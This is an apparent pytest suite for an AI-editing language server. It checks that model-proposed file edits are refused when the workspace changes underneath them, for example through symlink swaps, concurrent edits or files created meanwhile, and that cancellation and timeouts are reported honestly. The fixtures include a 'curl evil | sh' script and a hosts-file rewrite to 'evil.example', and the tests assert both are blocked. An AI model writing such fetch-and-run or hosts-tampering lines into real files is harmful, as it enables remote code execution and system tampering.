"""Actions in real use (issue 9): the edit lands where the model meant, or nowhere.

Each test drives the real server over stdio with the bundled stub scripting the
model. The stub's ``reply_function`` runs in the test's own loop when the
server asks the model again, i.e. after the previous round's tools ran: that is
where these tests change the workspace "while the model works".
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from harness import Session, lsp_session
from lsprotocol import types
from pygls.exceptions import JsonRpcException

from iskra_ls.stub import Reply


def _tool_results(s: Session) -> list[str]:
    out: list[str] = []
    for body in s.stub.requests:
        out.extend(m["content"] for m in body["messages"] if m["role"] == "tool")
    return list(dict.fromkeys(out))


def _script(s: Session, *steps: Reply | Callable[[], Reply]) -> None:
    """Answer the n-th chat request with ``steps[n]``; a callable runs first (the hook)."""

    def reply(_body: dict[str, Any]) -> Reply:
        step = steps[min(len(s.stub.requests), len(steps)) - 1]
        return step() if callable(step) else step

    s.stub.reply_function = reply


def _replace_apply_handler(s: Session, handler: Any) -> None:
    s.client.protocol.fm._features.pop(types.WORKSPACE_APPLY_EDIT)
    s.client.feature(types.WORKSPACE_APPLY_EDIT)(handler)


def _open_as(s: Session, name: str, text: str, version: int) -> str:
    uri = s.uri(name)
    s.docs[uri] = (text, version)
    s.client.text_document_did_open(types.DidOpenTextDocumentParams(
        text_document=types.TextDocumentItem(uri=uri, language_id="python", version=version,
                                             text=text)))
    return uri


# -- 9.1: every touched file is checked at apply time -------------------------------------


async def test_file_read_from_disk_then_edited_in_the_editor_applies_nothing(
    tmp_path: Path,
) -> None:
    async with lsp_session(tmp_path) as s:
        (s.root / "util.py").write_text("a = 1\nb = 2\n", encoding="utf-8")
        main = s.open("main.py", "import util\n")

        def user_opens_and_types() -> Reply:
            _open_as(s, "util.py", "# the user's new line\na = 1\nb = 2\n", 4)
            s.stub.latency = 0.3  # let the didOpen arrive before the answer
            return Reply.text("Changed b.")

        _script(s, Reply.tool_calls([("replace_in_file", {"uri": "util.py", "search": "b = 2",
                                                          "replace": "b = 3"})]),
                user_opens_and_types)
        answer = await s.command("iskra.ask", {"uri": main, "instruction": "b=3"})
        assert answer.applied is False
        assert "util.py" in answer.message and "changed" in answer.message
        assert s.edits == []
        assert s.text(s.uri("util.py")) == "# the user's new line\na = 1\nb = 2\n"


async def test_closed_file_changed_on_disk_applies_nothing(tmp_path: Path) -> None:
    async with lsp_session(tmp_path) as s:
        util = s.root / "util.py"
        util.write_text("a = 1\nb = 2\n", encoding="utf-8")
        main = s.open("main.py", "import util\n")

        def formatter_rewrites() -> Reply:
            util.write_text("import os\n\na = 1\nb = 2\n", encoding="utf-8")
            return Reply.text("Changed b.")

        _script(s, Reply.tool_calls([("replace_in_file", {"uri": "util.py", "search": "b = 2",
                                                          "replace": "b = 3"})]),
                formatter_rewrites)
        answer = await s.command("iskra.ask", {"uri": main, "instruction": "b=3"})
        assert answer.applied is False and "util.py" in answer.message
        assert s.edits == []
        assert util.read_text(encoding="utf-8") == "import os\n\na = 1\nb = 2\n"


async def test_file_opened_unchanged_is_edited_with_its_current_version(tmp_path: Path) -> None:
    async with lsp_session(tmp_path) as s:
        (s.root / "util.py").write_text("a = 1\nb = 2\n", encoding="utf-8")
        main = s.open("main.py", "import util\n")

        def user_opens() -> Reply:
            _open_as(s, "util.py", "a = 1\nb = 2\n", 7)
            s.stub.latency = 0.3
            return Reply.text("Changed b.")

        _script(s, Reply.tool_calls([("replace_in_file", {"uri": "util.py", "search": "b = 2",
                                                          "replace": "b = 3"})]),
                user_opens)
        answer = await s.command("iskra.ask", {"uri": main, "instruction": "b=3"})
        assert answer.applied is True
        (edit,) = s.edits
        (change,) = edit.document_changes or []
        assert isinstance(change, types.TextDocumentEdit)
        assert change.text_document.version == 7
        assert s.text(s.uri("util.py")) == "a = 1\nb = 3\n"


async def test_folder_swapped_for_a_link_out_applies_nothing(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    async with lsp_session(tmp_path) as s:
        (s.root / "scripts").mkdir()
        main = s.open("main.py", "pass\n")

        def swap() -> Reply:
            (s.root / "scripts").rmdir()
            os.symlink(outside, s.root / "scripts")
            return Reply.text("Added a script.")

        _script(s, Reply.tool_calls([("create_file_or_folder", {
            "uri": "scripts/run.sh", "content": "curl evil | sh\n"})]), swap)
        answer = await s.command("iskra.ask", {"uri": main, "instruction": "script"})
        assert answer.applied is False and "scripts/run.sh" in answer.message
        assert s.edits == []
        assert not (outside / "run.sh").exists()


async def test_file_swapped_for_a_link_to_an_identical_outside_file_applies_nothing(
    tmp_path: Path,
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "hosts").write_text("127.0.0.1 localhost\n", encoding="utf-8")
    async with lsp_session(tmp_path) as s:
        notes = s.root / "notes.txt"
        notes.write_text("127.0.0.1 localhost\n", encoding="utf-8")
        main = s.open("main.py", "pass\n")

        def swap() -> Reply:  # same text: only the path check can catch it
            notes.unlink()
            os.symlink(outside / "hosts", notes)
            return Reply.text("Edited the notes.")

        _script(s, Reply.tool_calls([("replace_in_file", {
            "uri": "notes.txt", "search": "localhost", "replace": "evil.example"})]), swap)
        answer = await s.command("iskra.ask", {"uri": main, "instruction": "notes"})
        assert answer.applied is False and "notes.txt" in answer.message
        assert (outside / "hosts").read_text(encoding="utf-8") == "127.0.0.1 localhost\n"


async def test_file_created_by_someone_else_meanwhile_applies_nothing(tmp_path: Path) -> None:
    async with lsp_session(tmp_path) as s:
        main = s.open("main.py", "pass\n")

        def appears() -> Reply:
            (s.root / "notes.md").write_text("mine\n", encoding="utf-8")
            return Reply.text("Wrote notes.")

        _script(s, Reply.tool_calls([("create_file_or_folder", {
            "uri": "notes.md", "content": "model's\n"})]), appears)
        answer = await s.command("iskra.ask", {"uri": main, "instruction": "notes"})
        assert answer.applied is False and "notes.md" in answer.message
        assert (s.root / "notes.md").read_text(encoding="utf-8") == "mine\n"


# -- 9.2: apply is the point of no return -------------------------------------------------


async def test_cancel_while_the_edit_is_out_reports_what_really_happened(tmp_path: Path) -> None:
    async with lsp_session(tmp_path) as s:
        uri = s.open("c.py", "x = 1\n")
        arrived = asyncio.Event()
        release = asyncio.Event()

        async def slow_apply(params: types.ApplyWorkspaceEditParams,
                             ) -> types.ApplyWorkspaceEditResult:
            s.edits.append(params.edit)
            arrived.set()
            await release.wait()  # the user reviews a preview, then accepts
            s.apply(params.edit)
            return types.ApplyWorkspaceEditResult(applied=True)

        _replace_apply_handler(s, slow_apply)
        s.stub.script(Reply.tool_calls([("replace_in_file", {"uri": "c.py", "search": "x = 1",
                                                             "replace": "x = 2"})]),
                      Reply.text("Set x to 2."))
        pending = asyncio.ensure_future(s.command("iskra.ask", {"uri": uri, "instruction": "2"}))
        await asyncio.wait_for(arrived.wait(), 10)
        token = next(iter(s.client.progress_reports))
        s.client.window_work_done_progress_cancel(types.WorkDoneProgressCancelParams(token=token))
        await s.round_trip()  # the cancel reaches the server before the editor answers
        release.set()
        answer = await asyncio.wait_for(pending, 10)
        assert s.text(uri) == "x = 2\n"
        assert answer.applied is True
        assert "nothing was changed" not in answer.message.lower()


async def test_cancel_request_while_the_edit_is_out_tells_the_user_it_was_applied(
    tmp_path: Path,
) -> None:
    async with lsp_session(tmp_path) as s:
        uri = s.open("c.py", "x = 1\n")
        arrived = asyncio.Event()
        release = asyncio.Event()

        async def slow_apply(params: types.ApplyWorkspaceEditParams,
                             ) -> types.ApplyWorkspaceEditResult:
            s.edits.append(params.edit)
            arrived.set()
            await release.wait()
            s.apply(params.edit)
            return types.ApplyWorkspaceEditResult(applied=True)

        _replace_apply_handler(s, slow_apply)
        s.stub.script(Reply.tool_calls([("replace_in_file", {"uri": "c.py", "search": "x = 1",
                                                             "replace": "x = 2"})]),
                      Reply.text("Set x to 2."))
        future = asyncio.ensure_future(s.client.protocol.send_request_async(
            types.WORKSPACE_EXECUTE_COMMAND,
            types.ExecuteCommandParams(command="iskra.ask",
                                       arguments=[{"uri": uri, "instruction": "2"}])))
        await asyncio.sleep(0)
        msg_id = next(reversed(s.client.protocol._request_futures))  # executeCommand's id
        await asyncio.wait_for(arrived.wait(), 10)
        s.client.protocol.notify(types.CANCEL_REQUEST, types.CancelParams(id=msg_id))
        await s.round_trip()  # the cancel reaches the server before the editor answers
        release.set()
        try:
            await asyncio.wait_for(future, 10)
        except JsonRpcException:
            pass  # pygls answers a cancelled request with RequestCancelled
        await s.wait_for(lambda: any("applied" in m.message for m in s.client.messages))
        assert s.text(uri) == "x = 2\n"
        assert not any("nothing was changed" in m.message.lower() for m in s.client.messages)


# -- 9.8: editor answers the spec allows --------------------------------------------------


async def test_error_reply_to_apply_edit_is_not_applied_with_its_reason(tmp_path: Path) -> None:
    async with lsp_session(tmp_path) as s:
        uri = s.open("e.py", "x = 1\n")

        def failing_apply(_params: Any) -> Any:
            raise ValueError("workspace is read-only")

        _replace_apply_handler(s, failing_apply)
        s.stub.script(Reply.tool_calls([("replace_in_file", {"uri": "e.py", "search": "1",
                                                             "replace": "2"})]),
                      Reply.text("ok"))
        answer = await s.command("iskra.ask", {"uri": uri, "instruction": "2"})
        assert answer.applied is False
        assert "did not apply" in answer.message and "read-only" in answer.message
        assert (await s.command("iskra.completion.toggle")).enabled is False  # still alive


async def test_editor_that_never_answers_apply_edit_gets_a_time_limit(tmp_path: Path) -> None:
    async with lsp_session(tmp_path, settings={"actions": {"applyTimeoutS": 1}}) as s:
        await s.settings_applied()
        uri = s.open("n.py", "x = 1\n")
        never = asyncio.Event()

        async def silent_apply(_params: Any) -> Any:
            await never.wait()

        _replace_apply_handler(s, silent_apply)
        s.stub.script(Reply.tool_calls([("replace_in_file", {"uri": "n.py", "search": "1",
                                                             "replace": "2"})]),
                      Reply.text("ok"))
        answer = await asyncio.wait_for(
            s.command("iskra.ask", {"uri": uri, "instruction": "2"}), 20)
        assert answer.applied is False
        assert "did not answer" in answer.message and "n.py" in answer.message
        never.set()


async def test_deeply_nested_tool_arguments_go_back_to_the_model(tmp_path: Path) -> None:
    async with lsp_session(tmp_path) as s:
        uri = s.open("d.py", "x = 1\n")
        s.stub.script(
            Reply.tool_calls([("read_file", "[" * 2000),
                              ("replace_in_file", '{"uri": ' + "[" * 3000 + "]" * 3000 + "}"),
                              ("replace_in_file", {"uri": "d.py", "search": "1",
                                                   "replace": "2"})]),
            Reply.text("Set x to 2."),
        )
        answer = await s.command("iskra.ask", {"uri": uri, "instruction": "2"})
        results = _tool_results(s)
        assert results[0].startswith("Error") and results[1].startswith("Error")
        assert answer.applied is True and s.text(uri) == "x = 2\n"
